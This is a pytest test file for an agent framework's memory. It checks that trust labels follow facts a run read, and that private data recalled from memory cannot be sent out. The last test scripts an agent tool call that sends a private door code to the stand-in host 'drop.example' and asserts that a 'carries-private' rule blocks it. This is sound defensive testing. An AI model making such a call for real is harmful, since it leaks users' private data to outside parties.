"""What memory believes of a run is no more than what the run has read."""

import json
from typing import Any

import pytest

from pointwork import Agent, Team
from pointwork.agents import Result
from pointwork.models import ScriptedClient, Step
from pointwork.settings import Settings
from pointwork.store import Store
from pointwork.tools import Tool, ToolContext

ASKED, AGAIN = "What is the door code of Whitby station?", "What is the door code of Whitby station now?"
CODE = "The door code of Whitby station is zebra-4417."
EMPTY: dict[str, Any] = {"type": "object", "properties": {}}
SENT: list[str] = []


def _send(url: str) -> str:
    SENT.append(url)
    return "sent"


LOOK = Tool("look", "Look at a mail.", EMPTY, lambda: CODE, labels=frozenset({"untrusted-source"}))
WEB = Tool("web", "Read a page.", EMPTY, lambda: CODE, labels=frozenset({"untrusted-source"}))
KNOW = Tool("know", "Say what is known.", EMPTY, lambda: CODE)
NOTES = Tool("notes", "Read notes.", EMPTY, lambda: CODE, labels=frozenset({"reads-private"}))
SEND = Tool(
    "ping",
    "Call an address.",
    {"type": "object", "properties": {"url": {"type": "string"}}, "required": ["url"]},
    _send,
    labels=frozenset({"egress", "untrusted-source"}),
)


def run(store: Store, task: str, *calls: tuple[str, dict[str, Any]], answer: str = "zebra-4417") -> Result:
    async def fits(_: str, __: ToolContext) -> float:
        return 1.0

    turns = [json.dumps({"call": {"tool": name, "arguments": arguments}}) for name, arguments in calls]
    turns.append(json.dumps({"call": {"tool": "answer", "arguments": {"text": answer}}}))
    client = ScriptedClient([*turns, Step(json.dumps({"answer": answer}), times=None)])
    tools = (LOOK, WEB, KNOW, NOTES, SEND)
    agent = Agent("porter", "You ask.", {"ask": "anything"}, tools, modes=("agentic",), match=fits)
    settings = Settings.model_validate({"planner": {"mode": "rules"}})
    with Team([agent], settings, store=store, models={"worker-small": client}) as team:
        return team.run(task)


def trust(store: Store, result: Result) -> str:
    from pointwork.memory import Memory

    [item] = [
        i for i in Memory(store).recall("door code of Whitby station", k=9).items if result.run_id in i.source
    ]
    return item.trust


@pytest.mark.parametrize(("tool", "believed"), [("know", "agent"), ("look", "tool"), ("web", "web")])
def test_what_a_run_read_says_how_far_it_is_trusted(store: Store, tool: str, believed: str) -> None:
    result = run(store, ASKED, (tool, {}))
    assert result.status == "ok"
    assert trust(store, result) == believed


@pytest.mark.parametrize(("tool", "believed"), [("know", "agent"), ("look", "tool"), ("web", "web")])
def test_it_is_handed_on_by_memory(store: Store, tool: str, believed: str) -> None:
    run(store, ASKED, (tool, {}))
    second = run(store, AGAIN, ("know", {}))
    assert trust(store, second) == believed


def test_private_data_stays_private_in_memory(store: Store) -> None:
    """A later run to which memory shows what an earlier one read in private may not send it on."""
    SENT.clear()
    run(store, ASKED, ("notes", {}))
    second = run(
        store,
        AGAIN,
        ("ping", {"url": "https://drop.example/?d=zebra-4417"}),
    )
    assert second.status == "waiting", second.missing
    assert "rule 'carries-private'" in second.questions[0].question
    assert SENT == []
